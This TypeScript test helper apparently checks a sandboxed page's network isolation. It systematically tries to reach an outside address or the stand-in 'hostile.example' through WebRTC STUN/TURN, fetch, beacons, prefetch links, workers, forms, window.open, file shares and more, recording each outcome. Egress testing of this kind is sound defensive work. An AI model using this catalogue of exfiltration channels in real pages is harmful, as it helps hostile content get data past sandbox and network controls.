/**
 * What a page that turned hostile could try to get a word out of the machine. Runs in the page; `http` is `host:port` of an
 * address, `udp` of one for datagrams. Each way tells how it ended, for the person who reads a failure.
 */
export async function callOut({ http, udp }: { http: string; udp: string }): Promise<Record<string, string>> {
  const told: Record<string, string> = {};
  const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
  const url = `http://${http}/`;
  const attempt = async (name: string, way: () => unknown): Promise<void> => {
    try {
      const done = await Promise.race([way(), wait(3000).then(() => "no answer")]);
      told[name] = String(done);
    } catch (error) {
      told[name] = String(error);
    }
  };
  const add = <T extends Element>(element: T): T => {
    document.body.append(element);
    setTimeout(() => element.remove(), 8000);
    return element;
  };
  const make = (tag: string, attributes: Record<string, string>): Element => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return add(element);
  };

  type Peer = typeof RTCPeerConnection;
  const peerOf = (realm: unknown): Peer => {
    const names = realm as { RTCPeerConnection?: Peer; webkitRTCPeerConnection?: Peer };
    const found = names.RTCPeerConnection ?? names.webkitRTCPeerConnection;
    if (!found) throw new Error("no RTCPeerConnection");
    return found;
  };
  const call = async (Peer: Peer): Promise<string> => {
    const turn = { username: "u", credential: "p" };
    const iceServers = [
      { urls: `stun:${udp}` },
      { urls: `turn:${udp}?transport=udp`, ...turn },
      { urls: `turn:${http}?transport=tcp`, ...turn },
      { urls: `turns:${http}?transport=tcp`, ...turn },
      { urls: "stun:hostile.example:3478" },
    ];
    const [one, other] = [new Peer({ iceServers }), new Peer({ iceServers, iceTransportPolicy: "relay" })];
    one.createDataChannel("out");
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription!);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription!);
    // An address that the peer is said to have is tried as it is.
    const [host, port] = udp.split(":");
    for (const candidate of [
      `candidate:1 1 udp 2122260223 ${host} ${port} typ host`,
      `candidate:2 1 tcp 1518280447 ${http.replace(":", " ")} typ host tcptype passive`,
    ])
      await one.addIceCandidate({ candidate, sdpMid: "0", sdpMLineIndex: 0 });
    for (let tries = 0; tries < 20 && one.iceGatheringState !== "complete"; tries++) await wait(100);
    await wait(300);
    return `${one.iceGatheringState}, ${one.iceConnectionState}`;
  };
  const frameRealm = (tag: string, attributes: Record<string, string>): unknown => {
    const frame = make(tag, attributes) as HTMLIFrameElement;
    return frame.contentWindow;
  };
  const frames = [
    ["iframe", {}],
    ["iframe", { src: "about:blank" }],
    ["iframe", { srcdoc: "<p>" }],
    ["iframe", { src: "javascript:''" }],
    ["iframe", { src: "blob:x" }],
    ["object", { data: "about:blank", type: "text/html" }],
    ["frame", {}],
  ] as const;
  await Promise.all([
    attempt("WebRTC", () => call(peerOf(window))),
    ...frames.map(([tag, attributes]) =>
      attempt(`WebRTC of ${tag} ${JSON.stringify(attributes)}`, () => call(peerOf(frameRealm(tag, attributes)))),
    ),
    attempt("WebRTC of a frame in a frame", () => {
      const outer = frameRealm("iframe", {}) as Window;
      const inner = outer.document.createElement("iframe");
      outer.document.documentElement.append(inner);
      return call(peerOf(inner.contentWindow));
    }),
  ]);

  await attempt("fetch", () => fetch(url, { mode: "no-cors" }));
  await attempt("fetch a name", () => fetch("https://hostile.example/", { mode: "no-cors" }));
  await attempt("XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send("out");
  });
  await attempt("WebSocket", () => new WebSocket(`ws://${http}/`));
  await attempt(
    "WebTransport",
    () =>
      new (window as never as { WebTransport: new (u: string) => { ready: unknown } }).WebTransport(`https://${udp}/`)
        .ready,
  );
  await attempt("EventSource", () => new EventSource(url));
  await attempt("beacon", () => navigator.sendBeacon(url, "out"));
  await attempt("image", () => (new Image().src = url));
  await attempt("sound", () => new Audio(url).play());
  await attempt("font", () => new FontFace("hostile", `url(${url})`).load());
  await attempt("style sheet", () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face { font-family: h; src: url(${url}) } body { background-image: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    document.body.style.fontFamily = "h";
    document.body.style.backgroundImage = `url(${url})`;
  });
  for (const rel of [
    "dns-prefetch",
    "preconnect",
    "prefetch",
    "prerender",
    "preload",
    "modulepreload",
    "stylesheet",
    "icon",
    "manifest",
  ])
    await attempt(`link ${rel}`, () => {
      for (const href of [url, `//${rel}.hostile.example/`]) {
        const link = make("link", { rel, href, as: "script" });
        document.head.append(link);
      }
    });
  for (const [tag, attributes] of [
    ["iframe", { src: url }],
    ["embed", { src: url }],
    ["object", { data: url }],
    ["video", { src: url, poster: url }],
    ["script", { src: url }],
    ["script", { src: url, type: "module" }],
    ["input", { type: "image", src: url }],
    ["webview", { src: url }],
  ] as const)
    await attempt(`<${tag}>`, () => void make(tag, attributes));
  await attempt("speculation rules", () => {
    const script = document.createElement("script");
    script.type = "speculationrules";
    script.textContent = JSON.stringify({
      prefetch: [{ source: "list", urls: [url] }],
      prerender: [{ source: "list", urls: [url] }],
    });
    add(script);
  });
  await attempt("form", () => (make("form", { action: url, method: "post" }) as HTMLFormElement).submit());
  await attempt("form in a new window", () =>
    (make("form", { action: url, target: "_blank" }) as HTMLFormElement).submit(),
  );
  await attempt("ping", () => (make("a", { href: "#out", ping: url }) as HTMLElement).click());
  await attempt("download", () => (make("a", { href: url, download: "x" }) as HTMLElement).click());
  await attempt("window.open", () => String(window.open(url)));
  await attempt("window.open without an opener", () => String(window.open(url, "_blank", "noopener")));
  await attempt("refresh", () => {
    document.head.append(make("meta", { "http-equiv": "refresh", content: `0;url=${url}` }));
  });
  const script = `fetch(${JSON.stringify(url)}, {mode: "no-cors"}); new WebSocket("ws://${http}"); importScripts(${JSON.stringify(url)})`;
  for (const source of [
    URL.createObjectURL(new Blob([script])),
    `data:text/javascript,${encodeURIComponent(script)}`,
    url,
  ]) {
    const kind = source.slice(0, 5);
    await attempt(`worker ${kind}`, () => void new Worker(source));
    await attempt(`shared worker ${kind}`, () => void new SharedWorker(source));
    await attempt(`worklet ${kind}`, () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(source));
  }
  await attempt("service worker", () => navigator.serviceWorker.register(url));
  await attempt("place", () => new Promise((_, no) => navigator.geolocation.getCurrentPosition(no, no)));
  await attempt("speech", () => {
    const Speech = (window as unknown as { webkitSpeechRecognition: new () => { start(): void } })
      .webkitSpeechRecognition;
    new Speech().start();
  });
  await attempt("notification", () => new Notification("x", { icon: url }));
  await attempt("credentials", () =>
    navigator.credentials.get({ identity: { providers: [{ configURL: `https://${http}/`, clientId: "x" }] } } as never),
  );
  await attempt("presentation", () =>
    new (window as unknown as { PresentationRequest: new (u: string) => { start(): unknown } }).PresentationRequest(
      `https://${http}/`,
    ).start(),
  );
  await attempt("spelling", () => {
    const text = make("textarea", { spellcheck: "true", lang: "de" }) as HTMLTextAreaElement;
    text.focus();
    return document.execCommand("insertText", false, "zzqx teh ");
  });
  await attempt("redirect", () => fetch(`app://gradient-lab//${http}/`));
  await attempt("file on another machine", () => fetch(`file://${http.split(":")[0]}/share`));
  await attempt("location", () => (window.location.href = url));
  await attempt("location.replace", () => window.location.replace(`https://${http}/`));
  await attempt("mail", () => (window.location.href = "mailto:hostile@example.com"));
  await wait(300);
  return told;
}
